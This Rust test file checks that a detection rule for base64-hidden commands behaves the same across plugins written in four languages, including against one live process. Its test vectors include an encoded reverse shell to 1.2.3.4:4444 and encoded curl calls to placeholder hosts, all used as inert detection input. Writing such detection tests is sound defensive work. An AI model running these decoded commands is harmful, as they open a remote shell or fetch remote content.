//! One rule in four languages: the same verdicts, and all of them on one live process.

use std::io::Write as _;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::{fs, io};

use daemoneye_bus::alert::Evidence;
use daemoneye_bus::event::{Batch, Event, Field, FieldType, Kind};
use daemoneye_host::catalog::{Catalog, Languages};
use daemoneye_host::judge::{self, Judge};
use daemoneye_host::plugin::Sandbox;
use daemoneye_host::sight::Sight;
use daemoneye_pack_format::Trust;
use daemoneye_tests::{Agent, Home, cache, component, plugins, workspace};
use tempfile::TempDir;

/// The rule that plugins/example has in each language, and what it may have in each: fuel for one
/// event, and bytes of memory. Rust's is in the pack.
const RULE: &str = "example-hidden-command";
const OTHERS: [(&str, &str, &str); 3] = [
    ("c", "200_000", "524_288"),
    ("js", "5_000_000", "8_388_608"),
    ("python", "5_000_000", "33_554_432"),
];

/// Its pack with a component and a rule for each language that was built here.
struct Examples {
    folder: TempDir,
    rules: Vec<String>,
}

impl Examples {
    fn new() -> Self {
        let folder = tempfile::tempdir().expect("a folder");
        let mut examples = Examples { folder, rules: vec![RULE.to_owned()] };
        let pack = workspace().join("plugins/example/pack");
        let read = |name: &str| fs::read_to_string(pack.join(name)).expect("a file of the example");
        examples.write("pack.toml", read("pack.toml"));
        let thread = "rules/example-false-kernel-thread.toml";
        examples.write(thread, read(thread));
        let rule = read(&format!("rules/{RULE}.toml"));
        examples.write(&format!("rules/{RULE}.toml"), &rule);
        examples.write("plugins/example.wasm", component("test/example.wasm"));
        for (language, fuel, memory) in OTHERS {
            if not_built(language) {
                continue;
            }
            let id = format!("{RULE}-{language}");
            let rule =
                rule.replace(RULE, &id).replace("200_000", fuel).replace("8_388_608", memory);
            let rule = rule.replace("plugins/example.wasm", &format!("plugins/{language}.wasm"));
            examples.write(&format!("rules/{id}.toml"), rule);
            let bytes = component(&format!("test/example-{language}.wasm"));
            examples.write(&format!("plugins/{language}.wasm"), bytes);
            examples.rules.push(id);
        }
        examples
    }

    fn pack(&self) -> PathBuf {
        self.folder.path().join("example")
    }

    fn write(&self, name: &str, bytes: impl AsRef<[u8]>) {
        let file = self.pack().join(name);
        fs::create_dir_all(file.parent().expect("a folder")).expect("a folder");
        fs::write(file, bytes).expect("written");
    }

    fn judge(&self) -> Judge {
        let sandbox = Sandbox::new(Some(&cache())).expect("a sandbox");
        let mut languages = Languages::load(&sandbox, &plugins(), Sight::Recorded, Some(&cache()))
            .expect("the languages");
        let mut catalog = Catalog::default();
        catalog
            .add(&self.pack(), &Trust::AllowUnsigned, &sandbox, &mut languages)
            .expect("the pack");
        let engine = judge::engine(&sandbox, &plugins()).expect("the engine");
        let (judge, withdrawn) = Judge::load(&engine, &mut catalog).expect("a judge");
        assert!(withdrawn.is_empty(), "{withdrawn:?}");
        judge
    }
}

/// Whether the language could not be built here. Then that is said past the test's captured output.
pub(crate) fn not_built(language: &str) -> bool {
    let missing = plugins().join(format!("test/example-{language}.missing"));
    let Ok(why) = fs::read_to_string(missing) else { return false };
    writeln!(io::stderr(), "NOT RUN: the rule in {language}: {}", why.trim()).expect("stderr");
    true
}

/// What is in a command line, who runs it, and whether the rule matches.
const VECTORS: [(Option<&str>, Option<&str>, bool); 12] = [
    (Some("echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQ= | base64 -d"), Some("eve"), true),
    (Some("echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQ | base64 -d"), None, true),
    (Some("echo aGVsbG8gd29ybGQsIGdvb2QgZGF5 | base64 -d"), Some("eve"), false),
    (None, Some("eve"), false),
    (Some("base64"), None, false),
    // The second word; a space at each end is not shown.
    (Some("base64 aGVsbG8gd29ybGQsIGdvb2QgZGF5 IGN1cmwgaHR0cDovL3gueS96IA=="), Some("ëve"), true),
    // Characters of two, three and four bytes: "curl ä☃𝄞 http://x".
    (Some("base64 Y3VybCDDpOKYg/CdhJ4gaHR0cDovL3g="), Some("𝄞"), true),
    // "curl " and a byte that is no UTF-8; the same, cut within a character; a surrogate.
    (Some("base64 Y3VybCBodHRwOi8veP8="), None, false),
    (Some("base64 Y3VybCBodHRwOi8veOKY"), None, false),
    (Some("base64 Y3VybCBodHRwOi8veO2ggA=="), None, false),
    // "=" within the word; six bits too many.
    (Some("base64 Y3VybCBodHRw=Oi8veC55L3o="), None, false),
    (Some("base64 Y3VybCBodHRwOi8veC55L3p6A"), None, true),
];

/// "xcurl " and so many snowmen, in base64: longer than evidence may be.
fn long_line() -> String {
    format!("base64 eGN1cmwg{}", "4piD".repeat(500))
}

fn batch() -> Batch {
    let long = long_line();
    let lines = VECTORS.iter().map(|(line, user, _)| (*line, *user));
    let events = lines.chain([(Some(long.as_str()), None)]).map(|(line, user)| {
        let event = Event::new(Kind::Exec, 1);
        let event = line.map_or(event.clone(), |line| event.with(Field::CommandLine, line));
        user.map_or(event.clone(), |user| event.with(Field::UserName, user))
    });
    Batch::from_events(&events.collect::<Vec<_>>()).expect("events")
}

#[test]
fn the_same_rule_has_the_same_verdicts_in_every_language() {
    let examples = Examples::new();
    let mut judge = examples.judge();
    let (found, unjudged) = judge.judge(&batch());
    assert!(unjudged.is_empty(), "{unjudged:?}");
    let told = |rule: &str| -> Vec<(usize, Vec<Evidence>)> {
        let of_rule = found.iter().filter(|found| found.rule.id == rule);
        of_rule.map(|found| (found.row, found.evidence.clone())).collect()
    };
    let in_rust = told(RULE);
    let expected = VECTORS.iter().map(|vector| vector.2).chain([true]).enumerate();
    let expected: Vec<usize> = expected.filter_map(|(row, fires)| fires.then_some(row)).collect();
    assert_eq!(in_rust.iter().map(|(row, _)| *row).collect::<Vec<_>>(), expected);
    let (_, long) = in_rust.last().expect("a finding");
    assert!(long[0].value.ends_with("☃…") && long[0].value.len() > 1_020, "{long:?}");
    for rule in &examples.rules {
        assert_eq!(told(rule), in_rust, "{rule}");
    }
}

#[test]
fn an_instance_of_every_language_keeps_nothing_of_the_batches_that_it_has_judged() {
    let examples = Examples::new();
    let mut judge = examples.judge();
    let event = Event::new(Kind::Exec, 1).with(Field::CommandLine, VECTORS[0].0.expect("a line"));
    let batch = Batch::from_events(&vec![event.with(Field::UserName, "eve"); 128]).expect("events");
    // All evidence of these is several times the memory that the rule in C may have.
    for _ in 0..100 {
        let (found, unjudged) = judge.judge(&batch);
        assert!(unjudged.is_empty(), "{unjudged:?}");
        assert_eq!(found.len(), 128 * examples.rules.len());
    }
}

/// Hides a connection on its command line, and only waits. Killed when it is dropped.
struct Hiding(Child);

impl Drop for Hiding {
    fn drop(&mut self) {
        if self.0.kill().is_ok() {
            let _reaped = self.0.wait();
        }
    }
}

#[test]
fn the_rule_fires_on_one_live_process_in_every_language() {
    let examples = Examples::new();
    // Compiled here, where it may take its time, and found by the agent among what is compiled.
    drop(examples.judge());
    let home = Home::new();
    home.add_pack(&examples.pack());
    let mut agent = Agent::start(&home);
    agent.wait_until("in force", |status| status["packs"].to_string().contains("\"example\""));
    let hidden = "YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQ=";
    let mut shell = Command::new("/bin/sh");
    // It stays what it is: whoever reads its arguments late reads the same.
    shell.args(["-c", "read never", "base64", hidden]);
    shell.stdin(Stdio::piped()).stdout(Stdio::null());
    let hiding = Hiding(shell.spawn().expect("sh starts"));
    let pid = hiding.0.id();
    for rule in &examples.rules {
        let alert = agent.wait_for_alert(rule, |alert| {
            alert["rule"] == rule.as_str() && alert["event"]["pid"] == pid
        });
        let evidence = alert["evidence"].to_string();
        assert!(evidence.contains("/dev/tcp/1.2.3.4/4444"), "{rule}: {evidence}");
    }
}

/// The SDKs must not depend on the agent, so the lists are compared here.
#[test]
fn the_sdk_of_every_language_knows_every_field_and_its_type() {
    let type_name = |field: &Field| match field.field_type() {
        FieldType::Integer => "integer",
        FieldType::Float => "float",
        FieldType::Text => "text",
    };
    type Line = fn(&str, &str) -> String;
    let table: [(&str, &str, Line); 3] = [
        ("sdk/c/daemoneye_fields.h", "    F(", |name, kind| format!("    F({name}, {kind})")),
        ("sdk/js/fields.js", "  ", |name, kind| format!("  {name}: \"{kind}\",")),
        ("sdk/python/daemoneye/fields.py", "    ", |name, kind| {
            format!("    \"{name}\": \"{kind}\",")
        }),
    ];
    for (file, begin, line) in table {
        let text = fs::read_to_string(workspace().join(file)).expect("a file of the SDK");
        let lines = text.lines().filter(|line| line.starts_with(begin));
        let known: Vec<&str> = lines.map(|line| line.trim_end_matches(" \\")).collect();
        let expected: Vec<String> =
            Field::ALL.iter().map(|field| line(field.name(), type_name(field))).collect();
        assert_eq!(known, expected, "{file}");
    }
}
